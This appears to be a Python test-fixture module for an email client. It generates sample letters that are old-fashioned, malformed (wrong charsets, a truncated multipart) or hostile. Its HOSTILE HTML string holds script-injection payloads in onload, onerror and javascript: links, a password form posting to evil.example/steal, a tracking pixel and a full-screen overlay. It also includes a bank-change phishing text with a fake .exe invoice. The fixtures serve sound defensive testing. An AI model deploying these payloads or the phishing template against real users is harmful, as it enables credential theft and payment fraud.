"""Mail that a lesser program stumbles over: broken, hostile, or just old-fashioned."""

from .. import files
from ..people import ADA, BOATHOUSE, BRUNO, TIDEWATER, US

HOSTILE = """
<html><head><base href="https://evil.example/"><script>document.title="owned by script"</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>@import url(https://evil.example/style.css); body{background:url(https://evil.example/bg)}</style>
</head><body onload="alert('owned by onload')">
<p>Dear customer, our bank account has changed. Please pay invoice 2043 again.</p>
<img src="x" onerror="alert('owned by onerror')"><svg onload="alert('owned by svg')"></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<a href="javascript:alert('owned by link')">See the new account</a>
<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>
<img src="https://evil.example/pixel.gif" width="1" height="1">
<div style="position:fixed;top:0;left:0;width:100%;height:100%">You have been signed out</div>
</body></html>
"""


def write(writer):
    """Write all letters of this module."""
    _old_fashioned(writer)
    _broken(writer)
    _hostile(writer)


def _old_fashioned(w):
    """A quoted local part with a space, and a file wrapped into winmail.dat."""
    boathouse = {"contacts": ("boathouse",)}
    w.received(
        "boat-kayaks", BOATHOUSE, "Two kayaks for the open day",
        "Two kayaks, red and blue, are reserved for you.\n\nFront desk\n",
        days=14, at="10:10", **boathouse,
    )  # fmt: skip
    w.sent(
        "boat-thanks", BOATHOUSE, "Re: Two kayaks for the open day", "Thank you!\n",
        answers="boat-kayaks", days=14, at="10:55", **boathouse,
    )  # fmt: skip
    plan = files.pdf("Where the kayaks are", ["Rack 3, behind the crane."])
    wrapped = files.winmail("Plan of the racks", "racks.pdf", plan)
    w.received(
        "boat-winmail", BOATHOUSE, "Plan of the racks", "See attached.\n",
        files={"winmail.dat": ("application/ms-tnef", wrapped)}, becomes={"racks.pdf": plan},
        days=13, at="09:09", **boathouse,
    )  # fmt: skip


def _broken(w):
    bruno = {"contacts": ("bruno",)}
    # Says us-ascii, is UTF-8; raw bytes above 127 in the subject.
    w.raw(
        "bruno-lies",
        "Date: {date}\nFrom: Bruno Castellane <bruno@tidewater.example>\n"
        f"To: {US}\nSubject: Café corner: naïve question\n"
        "Message-ID: <bruno-lies@tidewater.example>\nMIME-Version: 1.0\n"
        'Content-Type: text/plain; charset="us-ascii"\nContent-Transfer-Encoding: 7bit\n\n'
        "Is the café corner free on Monday? Señor Núñez from the ministry comes.\n".encode(),
        shows="Is the café corner free on Monday? Señor Núñez", days=11, at="15:00", **bruno,
    )  # fmt: skip
    # Says UTF-8, is Latin-1; an unknown transfer encoding.
    w.raw(
        "bruno-latin",
        b"Date: {date}\nFrom: bruno@tidewater.example\nTo: hello@harbourclub.example\n"
        b"Subject: =?utf-8?Q?R=E9servation?=\nMessage-ID: <bruno-latin@tidewater.example>\n"
        b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: x-unknown\n\n"
        b"D\xe9j\xe0 r\xe9serv\xe9, merci.\n",
        shows="réservé, merci", days=11, at="16:00", **bruno,
    )  # fmt: skip
    # No Date, no Message-ID, no Subject, no MIME: what a scanner or a script sends.
    w.raw(
        "tide-scanner",
        b"From: info@tidewater.example\nTo: hello@harbourclub.example\n\n"
        b"Scan to email: 1 page. (Device 4, Rope Walk)\n",
        contacts=("tidewater",), shows="Scan to email: 1 page", days=8, at="13:37",
    )  # fmt: skip
    # A multipart without its closing boundary, cut off in the middle of the attachment.
    w.raw(
        "tide-cut",
        b"Date: {date}\nFrom: " + TIDEWATER.encode() + b"\nTo: hello@harbourclub.example\n"
        b"Subject: Opening hours of the studio\nMessage-ID: <tide-cut@tidewater.example>\n"
        b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="cut"\n\n--cut\n'
        b"Content-Type: text/plain\n\nOur new opening hours are attached.\n\n--cut\n"
        b'Content-Type: text/csv; name="hours.csv"\n'
        b'Content-Disposition: attachment; filename="hours.csv"\n\n'
        b"day,opens\nMonday,9\nTues",
        contacts=("tidewater",), files={"hours.csv": None}, shows="Our new opening hours",
        days=4, at="09:00",
    )  # fmt: skip
    # A forwarded letter inside a letter.
    inner = (
        f"From: Harbour Office <office@harbourmaster.example>\nTo: {ADA}\nSubject: Quiet hours\n"
        "Message-ID: <quiet@harbourmaster.example>\nContent-Type: text/plain\n\n"
        "No horns after ten.\n"
    )
    w.raw(
        "ada-forward",
        (
            f"Date: {{date}}\nFrom: {ADA}\nTo: {US}\nSubject: Fwd: Quiet hours\n"
            "Message-ID: <ada-forward@fjordmail.example>\nMIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="fwd"\n\n--fwd\nContent-Type: text/plain\n\n'
            "Did you know? See the letter inside.\n\n--fwd\nContent-Type: message/rfc822\n"
            f"Content-Disposition: attachment\n\n{inner}\n--fwd--\n"
        ).encode(),
        contacts=("ada",), files={None: None}, shows="See the letter inside", days=3, at="08:45",
    )  # fmt: skip


def _hostile(w):
    """Forged with a member's address: filed, for it claims to be his, but harmless."""
    w.received(
        "bruno-forged", BRUNO, "URGENT: our new bank account",
        "Our bank account has changed. Please pay invoice 2043 again.\n",
        html=HOSTILE,
        files={"invoice.pdf.exe": ("application/octet-stream", b"MZ not really a program")},
        headers={
            "Authentication-Results": "mx.harbourclub.example; spf=fail smtp.mailfrom=evil.example;"
            " dkim=none; dmarc=fail header.from=tidewater.example",
            "Reply-To": "Bruno Castellane <bruno@tidewater-payments.example>",
        },
        contacts=("bruno",), shows="our bank account has changed", days=3, at="23:59", flags=(),
    )  # fmt: skip
    nested = "<div><blockquote>" * 60 + "deep down" + "</blockquote></div>" * 60
    w.received(
        "ada-nested", ADA, "Re: Re: Re: Re: who has the ladder",
        "deep down\n", html=f"<html><body>{nested}</body></html>",
        contacts=("ada",), shows="deep down", days=1, at="17:20",
    )  # fmt: skip
